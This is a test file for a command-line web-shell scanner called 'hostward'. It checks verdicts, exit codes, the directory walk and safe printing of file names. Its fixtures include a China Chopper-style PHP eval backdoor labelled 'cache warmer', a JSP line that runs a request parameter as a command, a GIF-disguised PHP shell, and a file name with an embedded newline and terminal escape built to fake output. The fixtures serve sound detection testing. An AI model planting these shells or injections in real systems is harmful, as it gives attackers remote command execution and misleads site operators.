import { test, describe, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawnSync, execFileSync } from "node:child_process";
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** `hostward scan` through the real CLI process (WS-1, WS-8 contract). */
const MAIN = join(import.meta.dirname, "main.ts");
function hw(...args: string[]) {
  const r = spawnSync(process.execPath, [MAIN, "scan", ...args], { encoding: "utf8", timeout: 60_000, env: { ...process.env, NO_COLOR: "1" } });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
const jsonLines = (s: string) => s.split("\n").filter(Boolean).map((l) => JSON.parse(l) as { path: string; verdict: string; reasons: { id: string; line?: number; severity: string }[]; md5: string; sha256: string; lang: string | null });

const SHELL = "<?php\n// cache warmer\n\n@eval($_POST['k']);\n";
const CLEAN = "<?php\nrequire __DIR__ . '/bootstrap.php';\necho htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES);\n";

let dir: string;
before(() => {
  dir = mkdtempSync(join(tmpdir(), "hw-scan-"));
});
after(() => rmSync(dir, { recursive: true, force: true }));

function tree(name: string, files: Record<string, string>): string {
  const root = join(dir, name);
  for (const [p, c] of Object.entries(files)) {
    mkdirSync(join(root, p, ".."), { recursive: true });
    writeFileSync(join(root, p), c);
  }
  return root;
}

describe("hostward scan (WS-1, WS-8)", () => {
  test("WS-8 exit 0 and one JSON object per clean file, with the contract's keys", () => {
    const root = tree("clean", { "index.php": CLEAN, "lib/util.inc": "<?php function f() { return 1; }\n" });
    const r = hw("--json", root);
    assert.equal(r.code, 0, r.err);
    const lines = jsonLines(r.out);
    assert.equal(lines.length, 2);
    for (const l of lines) {
      assert.deepEqual(Object.keys(l).slice(0, 5), ["path", "verdict", "reasons", "md5", "sha256"]);
      assert.equal(l.verdict, "clean");
      assert.deepEqual(l.reasons, []);
      assert.match(l.md5, /^[0-9a-f]{32}$/);
      assert.match(l.sha256, /^[0-9a-f]{64}$/);
    }
    assert.equal(lines.find((l) => l.path.endsWith("index.php"))?.sha256, createHash("sha256").update(CLEAN).digest("hex"));
    assert.match(r.err, /2 files .* 0 malicious, 0 suspicious, 2 clean/);
  });

  test("WS-8 exit 1 when a web shell is found; reasons carry line numbers", () => {
    const root = tree("found", { "index.php": CLEAN, "uploads/cache.php": SHELL });
    const r = hw("--json", root);
    assert.equal(r.code, 1, r.err);
    const shell = jsonLines(r.out).find((l) => l.path.endsWith("cache.php"))!;
    assert.equal(shell.verdict, "malicious");
    assert.equal(shell.reasons.find((x) => x.id === "sig.china-chopper-php")?.line, 4);
    const human = hw(root);
    assert.equal(human.code, 1);
    assert.match(human.out, /^malicious +\S*uploads\/cache\.php/m);
    assert.match(human.out, /^ {4}line 4 +sig\.china-chopper-php +China Chopper/m);
    assert.doesNotMatch(human.out, /index\.php/, "clean files are only counted without --verbose");
    assert.match(hw("--verbose", root).out, /^clean +\S*index\.php/m);
  });

  test("WS-8 exit 2 on a missing path or a non-regular file, the rest still scanned", () => {
    const root = tree("partly", { "a.php": SHELL });
    const fifo = join(dir, "pipe.php");
    execFileSync("mkfifo", [fifo]);
    const r = hw("--json", join(dir, "does-not-exist"), root, fifo);
    assert.equal(r.code, 2);
    assert.match(r.err, /does-not-exist: no such file or directory/);
    assert.match(r.err, /pipe\.php: not a regular file/);
    assert.equal(jsonLines(r.out).length, 1, "the existing file is still reported");
    assert.equal(jsonLines(r.out)[0]!.verdict, "malicious");
    assert.equal(hw().code, 2, "no path");
    assert.equal(hw("--jobs", "0", root).code, 2);
    assert.equal(hw("--bogus", root).code, 2);
    const help = hw("--help");
    assert.equal(help.code, 0);
    assert.match(help.out, /Exit status: 0 nothing found, 1 .* 2 on an error/s);
  });

  test("WS-1 directory walk: web files only, links not followed, FIFOs skipped; a named file is scanned by content", () => {
    const root = tree("walk", { "a/b/c/deep.jsp": '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n', "x.aspx": '<%@ Page Language="C#" %>\n', "readme.txt": SHELL, "img/cat.jpg": `GIF89a\n${SHELL}` });
    symlinkSync(root, join(root, "a", "loop")); // a loop back to the top: never followed
    execFileSync("mkfifo", [join(root, "a", "fifo.php")]);
    const r = hw("--json", root);
    assert.equal(r.code, 1, r.err);
    const paths = jsonLines(r.out).map((l) => l.path.slice(root.length)).sort();
    assert.deepEqual(paths, ["/a/b/c/deep.jsp", "/x.aspx"]);
    assert.match(r.err, /skipped/);
    const named = jsonLines(hw("--json", join(root, "img", "cat.jpg")).out)[0]!;
    assert.equal(named.lang, "php");
    assert.equal(named.verdict, "malicious");
    const all = jsonLines(hw("--json", "--all-files", root).out).map((l) => l.path.slice(root.length)).sort();
    assert.deepEqual(all, ["/a/b/c/deep.jsp", "/img/cat.jpg", "/readme.txt", "/x.aspx"]);
  });

  test("WS-8 hostile file names are data: JSON keeps the real name, the terminal output escapes it", () => {
    const root = join(dir, "hostile");
    mkdirSync(root);
    const evil = "x\nmalicious  passwd\x1b[2J.php";
    writeFileSync(join(root, evil), SHELL);
    writeFileSync(join(root, "ok.php"), CLEAN);
    const r = hw("--json", root);
    assert.equal(r.code, 1);
    const lines = jsonLines(r.out);
    assert.equal(lines.length, 2);
    assert.ok(lines.some((l) => l.path === join(root, evil) && l.verdict === "malicious"));
    const human = hw(root);
    assert.doesNotMatch(human.out, /\x1b/);
    assert.doesNotMatch(human.out, /^malicious  passwd/m, "a name cannot fake a verdict line");
    assert.match(human.out, /x\\nmalicious  passwd\\u001b\[2J\.php/);
    // a name that is not UTF-8 is scanned too and printed escaped, its bytes given in JSON
    const raw = Buffer.concat([Buffer.from(root + "/bad-"), Buffer.from([0xff, 0xfe]), Buffer.from(".php")]);
    writeFileSync(raw, SHELL);
    const j = jsonLines(hw("--json", root).out).find((l) => "path_b64" in l) as unknown as { path_b64: string; verdict: string };
    assert.ok(j, "non-UTF-8 name reported");
    assert.deepEqual(Buffer.from(j.path_b64, "base64"), raw);
    assert.equal(j.verdict, "malicious");
    assert.match(hw(root).out, /bad-\\xff\\xfe\.php/);
  });

  test("WS-8 parallel workers give the same verdicts as one thread", () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 60; i++) files[`d${i % 5}/f${i}.php`] = i % 7 === 0 ? SHELL : CLEAN;
    const root = tree("many", files);
    const one = jsonLines(hw("--json", "--jobs", "1", root).out).map((l) => `${l.path} ${l.verdict} ${l.sha256}`).sort();
    const two = hw("--json", "--jobs", "3", root);
    assert.equal(two.code, 1);
    assert.deepEqual(jsonLines(two.out).map((l) => `${l.path} ${l.verdict} ${l.sha256}`).sort(), one);
    assert.equal(one.length, 60);
    assert.equal(one.filter((l) => l.includes(" malicious ")).length, 9);
  });
});
